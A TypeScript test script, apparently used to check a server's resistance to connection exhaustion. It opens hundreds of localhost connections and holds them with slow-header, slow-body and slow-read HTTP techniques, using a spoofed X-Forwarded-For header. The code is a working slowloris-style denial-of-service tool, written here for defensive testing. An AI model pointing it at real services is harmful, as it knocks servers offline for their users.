/*
 * Opens many connections, on each of which something never comes to an end, says how many could be opened, and holds
 * them; a process of its own, for it takes as many descriptors as the server: `attacker.ts kind port count jwt`. A client that
 * does not read cannot see that the server has gone, so whoever started this looks at the server's descriptors.
 */
import { connect, type Socket } from 'node:net'

const [kind, port, count, jwt] = process.argv.slice(2) as [string, string, string, string]
/** So many are being opened at once; more do not fit into the queue of a listening socket. */
const AT_ONCE = 200
const BODY_BYTES = 10_000
const DRIP_MS = 500

/** As a balancer would say it: the failures are those of an attacker, and not of the clients on the same machine. */
const HEAD = 'HTTP/1.1\r\nHost: a\r\nX-Forwarded-For: 203.0.113.9\r\n'

/** What each connection does once it is open; none of them ever comes to an end of its own. */
const KINDS: Readonly<Record<string, (socket: Socket) => void>> = {
  /** Half of the headers, and nothing more. */
  'half-headers': (socket) => {
    socket.resume()
    socket.write(`POST /v1/tokens ${HEAD}Content-Le`)
  },
  /** All headers, and a body that comes a byte at a time. */
  'slow-body': (socket) => {
    socket.resume()
    socket.write(
      `POST /v1/tokens ${HEAD}Authorization: Bearer ${jwt}\r\nContent-Type: application/json\r\nContent-Length: ${BODY_BYTES}\r\n\r\n{`,
    )
    const drip = setInterval(() => socket.write(' '), DRIP_MS)
    socket.on('close', () => clearInterval(drip))
  },
  /** One request after the other, of which no answer is ever read. */
  'slow-read': (socket) => {
    socket.pause()
    socket.write(`GET /docs/scalar.js ${HEAD}Accept-Encoding: gzip\r\n\r\n`.repeat(20))
  },
}
const act = KINDS[kind]!

let opened = 0
let begun = 0

/** Resolves once it is open, or refused. */
function open(): Promise<void> {
  return new Promise((resolve) => {
    const socket = connect(Number(port), '127.0.0.1')
    socket.on('error', () => undefined)
    socket.on('close', () => resolve())
    socket.on('connect', () => {
      opened += 1
      act(socket)
      resolve()
    })
  })
}

async function worker(): Promise<void> {
  while (begun++ < Number(count)) await open()
}
await Promise.all(Array.from({ length: AT_ONCE }, worker))
process.stdout.write(`${opened}\n`)
process.stdin.resume().on('end', () => process.exit())
